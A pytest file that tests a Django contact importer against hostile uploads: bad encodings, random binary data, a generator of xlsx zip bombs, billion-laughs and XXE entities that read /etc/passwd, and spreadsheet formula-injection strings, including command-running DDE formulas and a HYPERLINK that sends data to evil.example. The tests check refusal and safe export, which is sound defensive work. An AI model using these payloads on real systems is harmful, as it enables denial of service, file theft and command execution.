"""Hostile files (issue 24): wrong encodings, binary garbage, zip bombs, XML entity
attacks, one enormous cell and formulas, through the wizard's setup page (the
refusal drawn under the file field, a 400, no import made) and through the engine
(the job fails with the reason, no contact written). Memory is measured where a
file could blow it up (tracemalloc: Python's own allocations, which is where a
whole line, a whole part or a whole sheet would go)."""

import csv
import io
import random
import time
import tracemalloc
import zipfile
import zlib

import pytest
from django.core.files import File
from django.core.files.uploadedfile import SimpleUploadedFile

from contacts import exports
from contacts.models import Contact
from contacts.sets import ContactSet
from imports import reading, services
from imports.models import Import
from jobs import runner
from jobs.models import Job
from tests.imports.helpers import make, run, xlsx
from tests.imports.test_views import field_errors

pytestmark = pytest.mark.django_db

NAMES = ["Zoë", "Łukasz", "山田 太郎"]


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def refused_at_setup(client, content: bytes, name: str) -> str:
    """The wizard's setup refuses the file: what it says under the file field."""
    answer = client.post(
        "/imports/new/", {"file": SimpleUploadedFile(name, content), "mode": "upsert"}
    )
    assert answer.status_code == 400
    assert not Import.objects.exists()
    assert not Contact.objects.exists()
    return " ".join(field_errors(answer.content.decode(), "file").split())


def people_csv(delimiter=",") -> str:
    lines = [delimiter.join(["email", "first_name"])]
    lines += [f"p{i}@example.com{delimiter}{name}" for i, name in enumerate(NAMES)]
    return "\r\n".join(lines) + "\r\n"


# ---------------------------------------------------------------- encodings


def test_utf16_with_its_mark_is_read_as_excel_writes_it(client_in, workspace, user):
    content = people_csv("\t").encode("utf-16")  # Excel's "Unicode text": BOM, tabs
    answer = client_in.post(
        "/imports/new/", {"file": SimpleUploadedFile("people.txt", content), "mode": "upsert"}
    )
    assert answer.status_code == 302
    imp = Import.objects.get()
    assert (imp.detected["encoding"], imp.detected["delimiter"]) == ("utf-16", "\t")
    job = run(services.import_map(
        imp=imp, has_header=True, encoding="", delimiter="", sheet="", mapping=imp.mapping,
        user=user,
    ), user)  # fmt: skip
    assert job.status == Job.Status.DONE
    assert sorted(Contact.objects.values_list("first_name", flat=True)) == sorted(NAMES)


@pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be"])
def test_utf16_without_its_mark_is_refused_saying_so(client_in, codec):
    said = refused_at_setup(client_in, people_csv().encode(codec), "people.csv")
    assert "UTF-16 text without the mark that says so" in said
    assert "CSV UTF-8" in said


def test_shift_jis_is_refused_not_read_as_windows_1252(client_in):
    content = b"email,name\r\n" + "".join(
        f"p{i}@example.com,山田、東京。ー{i}\r\n" for i in range(20)
    ).encode("shift_jis")
    said = refused_at_setup(client_in, content, "people.csv")
    assert "neither UTF-8 nor Windows-1252" in said and "Shift-JIS" in said


def test_a_file_mixing_utf8_and_windows_1252_names_the_line(client_in):
    lines = [f"p{i}@example.com,Zoë Łukasz {i}".encode() for i in range(6)]
    lines.insert(4, "q@example.com,Zoë".encode("cp1252"))  # line 6 with the header
    content = b"email,name\r\n" + b"\r\n".join(lines) + b"\r\n"
    said = refused_at_setup(client_in, content, "people.csv")
    assert "UTF-8 except line 6" in said and "mixes two encodings" in said


def test_windows_1252_is_still_read(workspace, user):
    content = "email,first_name\r\nz@example.com,Zoë Müller – Œuvre\r\n".encode("cp1252")
    imp = make(workspace, user, content)
    assert imp.detected["encoding"] == "cp1252"
    assert run(imp, user).status == Job.Status.DONE
    assert Contact.objects.get().first_name == "Zoë Müller – Œuvre"


# ---------------------------------------------------------------- binary garbage


def garbage(size=64 * 1024, *, seed=24, zero=True) -> bytes:
    data = random.Random(seed).randbytes(size)
    return data if zero else data.replace(b"\x00", b"\x01")


@pytest.mark.parametrize(
    ("content", "name", "message"),
    [
        (garbage(), "people.csv", "This file is not text"),
        (garbage(zero=False), "people.csv", "neither UTF-8 nor Windows-1252"),
        (garbage(), "people.xlsx", "not a valid Excel (.xlsx) workbook"),
        (b"PK\x03\x04" + garbage(), "people.xlsx", "not a valid Excel (.xlsx) workbook"),
        (xlsx({"P": [["email"], ["a@x.co"]]})[:3000], "people.xlsx", "not a valid Excel"),
    ],
    ids=["random-csv", "random-no-nul-csv", "random-xlsx", "zip-magic-xlsx", "truncated-xlsx"],
)
def test_binary_garbage_is_refused_at_setup(client_in, content, name, message):
    assert message in refused_at_setup(client_in, content, name)


def test_a_zip_that_is_no_workbook_is_refused(client_in):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("notes.txt", "hello")
    assert "cannot be read" in refused_at_setup(client_in, out.getvalue(), "people.xlsx")


# ---------------------------------------------------------------- zip bombs


def bomb(unpacked: int, *, declared: int | None = None) -> bytes:
    """A real workbook whose sheet XML is followed by `unpacked` bytes of spaces
    (legal between elements), deflated: about a thousandth of that packed. Built
    from one independently deflated block repeated (a full flush resets the
    dictionary), so making it costs a CRC pass, not a compression of gigabytes.
    `declared`: the size the zip's directory states instead (a lying header)."""
    book = zipfile.ZipFile(io.BytesIO(xlsx({"People": [["email"], ["a@x.co"]]})))
    block = b" " * (16 * 1024 * 1024)
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed_block = squeeze.compress(block) + squeeze.flush(zlib.Z_FULL_FLUSH)
    repeats = unpacked // len(block)
    sheet = book.read("xl/worksheets/sheet1.xml")
    head, tail = sheet.split(b"<sheetData>")
    head += b"<sheetData>"
    crc = zlib.crc32(head)
    for _ in range(repeats):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    first, last = zlib.compressobj(9, zlib.DEFLATED, -15), zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = (
        first.compress(head)
        + first.flush(zlib.Z_FULL_FLUSH)
        + packed_block * repeats
        + last.compress(tail)
        + last.flush()
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for item in book.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                archive.writestr(item, book.read(item.filename))
                continue
            # The member written by hand: its header, then the packed bytes.
            info = zipfile.ZipInfo(item.filename, date_time=item.date_time)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.CRC, info.compress_size = crc, len(packed)
            info.file_size = declared or len(head) + repeats * len(block) + len(tail)
            info.header_offset = archive.fp.tell()
            archive.fp.write(info.FileHeader(zip64=False))
            archive.fp.write(packed)
            archive.filelist.append(info)
            archive.NameToInfo[info.filename] = info
            archive.start_dir = archive.fp.tell()
    return out.getvalue()


@pytest.mark.parametrize("gigabytes", [1.5, 3.5])
def test_an_xlsx_zip_bomb_is_refused_quickly_in_bounded_memory(client_in, gigabytes):
    content = bomb(int(gigabytes * 1024**3))
    assert len(content) < 5 * 1024**2  # a few MB that unpack to gigabytes
    tracemalloc.start()
    started = time.perf_counter()
    try:
        said = refused_at_setup(client_in, content, "people.xlsx")
        took, peak = time.perf_counter() - started, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "unpacks to more than we read" in said and "zip bomb" in said
    assert took < 10 and peak < 64 * 1024**2, (took, peak)


def test_a_bomb_whose_directory_lies_about_its_size_is_refused(client_in):
    """zipfile stops at the stated size, and the checksum of what it read fails."""
    content = bomb(256 * 1024**2, declared=1000)
    tracemalloc.start()
    try:
        said = refused_at_setup(client_in, content, "people.xlsx")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "damaged" in said or "cannot be read" in said
    assert peak < 64 * 1024**2


def test_a_workbook_whose_sheet_packs_as_a_real_one_is_read(workspace, user):
    """The ratio guard lets real workbooks through: a sheet of 3,000 people."""
    rows = [["email", "first_name"]] + [[f"p{i}@example.com", "Ann"] for i in range(3000)]
    imp = make(workspace, user, xlsx({"People": rows}), name="people.xlsx")
    assert run(imp, user).status == Job.Status.DONE
    assert Contact.objects.count() == 3000


# ---------------------------------------------------------------- XML entities


def with_xml(book: bytes, part: str, edit) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(book))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            target.writestr(item, edit(data) if item.filename == part else data)
    return out.getvalue()


LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10)
        for n in range(1, 10)
    )
    + b"]>"
)
EXTERNAL = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


SST = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>Ann</t></si></sst>'
SST_REL = (
    b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'sharedStrings" Target="sharedStrings.xml" Id="rId9" /></Relationships>'
)
SST_TYPE = (
    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.spreadsheetml.sharedStrings+xml" /></Types>'
)


def shared_strings_book() -> bytes:
    """A workbook whose "Ann" lives in xl/sharedStrings.xml, as Excel writes text
    (openpyxl writes it inline)."""
    edits = {
        "xl/worksheets/sheet1.xml": lambda x: x.replace(
            b'<c r="B2" t="inlineStr"><is><t>Ann</t></is></c>', b'<c r="B2" t="s"><v>0</v></c>'
        ),
        "xl/_rels/workbook.xml.rels": lambda x: x.replace(b"</Relationships>", SST_REL),
        "[Content_Types].xml": lambda x: x.replace(b"</Types>", SST_TYPE),
    }
    book = xlsx({"People": [["email", "first_name"], ["a@example.com", "Ann"]]})
    source = zipfile.ZipFile(io.BytesIO(book))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            target.writestr(item, edits.get(item.filename, bytes)(data))
        target.writestr("xl/sharedStrings.xml", SST)
    return out.getvalue()


def declare(doctype: bytes, *, entity=b"", encoding="utf-8"):
    """An edit of an XML part: the doctype after its declaration, "Ann" (a shared
    string) replaced by the entity, the whole encoded as `encoding`."""

    def edit(xml: bytes) -> bytes:
        if xml.startswith(b"<?xml"):
            xml = xml.partition(b"?>")[2]
        body = xml.replace(b"Ann", entity) if entity else xml
        label = encoding.upper().encode()
        document = b'<?xml version="1.0" encoding="' + label + b'"?>' + doctype + body
        return document.decode().encode(encoding)

    return edit


@pytest.mark.parametrize(
    ("part", "doctype", "entity", "encoding"),
    [
        ("xl/sharedStrings.xml", LAUGHS, b"&lol9;", "utf-8"),
        ("xl/sharedStrings.xml", EXTERNAL, b"&xxe;", "utf-8"),
        ("xl/worksheets/sheet1.xml", LAUGHS, b"", "utf-8"),
        ("xl/worksheets/sheet1.xml", b"<!-- hi --><?pi x?>" + EXTERNAL, b"", "utf-8"),
        # The prolog check reads bytes: a UTF-16 part slips past it, defusedxml does not.
        ("xl/sharedStrings.xml", EXTERNAL, b"&xxe;", "utf-16"),
        ("xl/worksheets/sheet1.xml", LAUGHS, b"", "utf-16"),
    ],
    ids=["laughs-strings", "xxe-strings", "laughs-sheet", "xxe-after-comment", "xxe-utf16",
         "laughs-sheet-utf16"],
)  # fmt: skip
def test_an_entity_attack_is_refused_saying_why(client_in, part, doctype, entity, encoding):
    content = with_xml(shared_strings_book(), part, declare(doctype, entity=entity,
                                                            encoding=encoding))  # fmt: skip
    # The setup reads the header row: the sheet and its strings are parsed there.
    said = refused_at_setup(client_in, content, "people.xlsx")
    assert "declares a DTD or XML entities" in said
    assert "root:" not in said  # nothing of /etc/passwd


# ---------------------------------------------------------------- one enormous cell


def enormous(path, *, cell: int, before: int = 0) -> None:
    """A CSV: a header, `before` good rows, then a row whose one cell is `cell` bytes."""
    with path.open("wb") as out:
        out.write(b"email,first_name\r\n")
        out.writelines(f"p{i}@example.com,Ann\r\n".encode() for i in range(before))
        out.write(b"big@example.com,")
        block = b"x" * 1024**2
        for _ in range(cell // len(block)):
            out.write(block)
        out.write(b"x" * (cell % len(block)) + b"\r\nlast@example.com,Bob\r\n")


def test_a_100_mb_cell_is_refused_before_any_row_is_written(workspace, user, tmp_path, settings):
    """A 100 MB cell, under the 100 MiB upload limit, on line 6,002: past the first
    chunk of rows, so a half import would show. The run refuses the file, naming the
    line, without ever holding the line in memory, and writes nothing."""
    path = tmp_path / "big.csv"
    enormous(path, cell=100_000_000, before=6000)
    assert path.stat().st_size <= settings.IMPORT_MAX_BYTES
    with path.open("rb") as source:
        imp = services.import_create(
            workspace=workspace, user=user, upload=File(source, name="big.csv")
        )
    imp = services.import_map(imp=imp, has_header=True, encoding="", delimiter="", sheet="",
                              mapping=imp.mapping, user=user)  # fmt: skip
    path.unlink()
    tracemalloc.start()
    started = time.perf_counter()
    try:
        job = run(imp, user)
        took, peak = time.perf_counter() - started, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert job.status == Job.Status.FAILED
    assert "Line 6002 of this file is longer than 4,000,000 characters" in job.message
    assert not Contact.objects.exists()
    assert peak < 64 * 1024**2 and took < 60, (peak, took)


def test_a_cell_over_the_cell_limit_is_refused_on_the_review_page(client_in, workspace, user):
    """Under the line limit but over the cell limit: the dry run fails, and the
    review page says why, in place of the counts."""
    content = b"email,first_name\r\na@example.com," + b"y" * 200_000 + b"\r\n"
    imp = make(workspace, user, content)
    job = services.import_review_start(imp=imp, user=user)
    runner.run(job.pk)
    page = client_in.get(f"/imports/{imp.pk}/review/").content.decode()
    assert "Line 2 of this file has a cell longer than 100,000 characters" in page
    assert "Start import" not in page
    assert not Contact.objects.exists()


def test_a_file_over_the_upload_limit_is_refused_at_setup(client_in, settings):
    settings.IMPORT_MAX_BYTES = 1024**2
    content = b"email,note\r\na@example.com," + b"z" * (2 * 1024**2) + b"\r\n"
    said = refused_at_setup(client_in, content, "people.csv")
    assert "This file is 2.1 MB; an import takes at most 1 MB" in said


# ---------------------------------------------------------------- formulas


FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
]


def formula_book() -> bytes:
    """An XLSX whose cells hold the formulas as text (as a hostile file would)."""
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["email", "first_name", "company"])
    for i, text in enumerate(FORMULAS):
        row = i + 2
        sheet.cell(row, 1, f"f{i}@example.com")
        for column in (2, 3):
            cell = sheet.cell(row, column)
            cell.value, cell.data_type = text, "s"
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_formulas_are_stored_as_text_and_exported_formula_safe(workspace, user, kind):
    if kind == "csv":
        out = io.StringIO()
        writer = csv.writer(out)
        writer.writerow(["email", "first_name", "company"])
        writer.writerows([f"f{i}@example.com", t, t] for i, t in enumerate(FORMULAS))
        content, name = out.getvalue().encode(), "people.csv"
    else:
        content, name = formula_book(), "people.xlsx"
    imp = make(workspace, user, content, name=name)
    assert run(imp, user).status == Job.Status.DONE
    stored = dict(Contact.objects.values_list("email", "first_name"))
    assert stored == {f"f{i}@example.com": text for i, text in enumerate(FORMULAS)}
    assert set(Contact.objects.values_list("company", flat=True)) == set(FORMULAS)

    for fmt in ("csv", "xlsx"):
        job = exports.export_start(workspace=workspace, user=user, format=fmt,
                                   fields=["email", "first_name", "company"],
                                   contact_set=ContactSet.matching(workspace, ""))  # fmt: skip
        assert runner.run(job.pk) == Job.Status.DONE
        job.refresh_from_db()
        written = exported_cells(job.result_file, fmt)
        for text in FORMULAS:
            assert written.count("'" + text) == 2, (fmt, text)  # first name and company
            assert text not in written  # never bare, where a spreadsheet would run it


def exported_cells(name: str, fmt: str) -> list:
    from django.core.files.storage import default_storage

    with default_storage.open(name, "rb") as handle:
        data = handle.read()
    if fmt == "csv":
        return [c for row in csv.reader(io.StringIO(data.decode(), newline="")) for c in row]
    import openpyxl

    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value  # no cell is a formula
    return [cell.value for row in sheet.iter_rows() for cell in row]


def test_reading_counts_one_enormous_line_in_bounded_memory(tmp_path):
    """The reader alone, on a file with a 100 MB line: refused, line named, a few MB."""
    path = tmp_path / "big.csv"
    enormous(path, cell=100_000_000)
    tracemalloc.start()
    try:
        with path.open("rb") as file, pytest.raises(reading.FileRefused, match="Line 2 of"):
            reading.Table("csv").count_rows(file, limit=10)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 16 * 1024**2
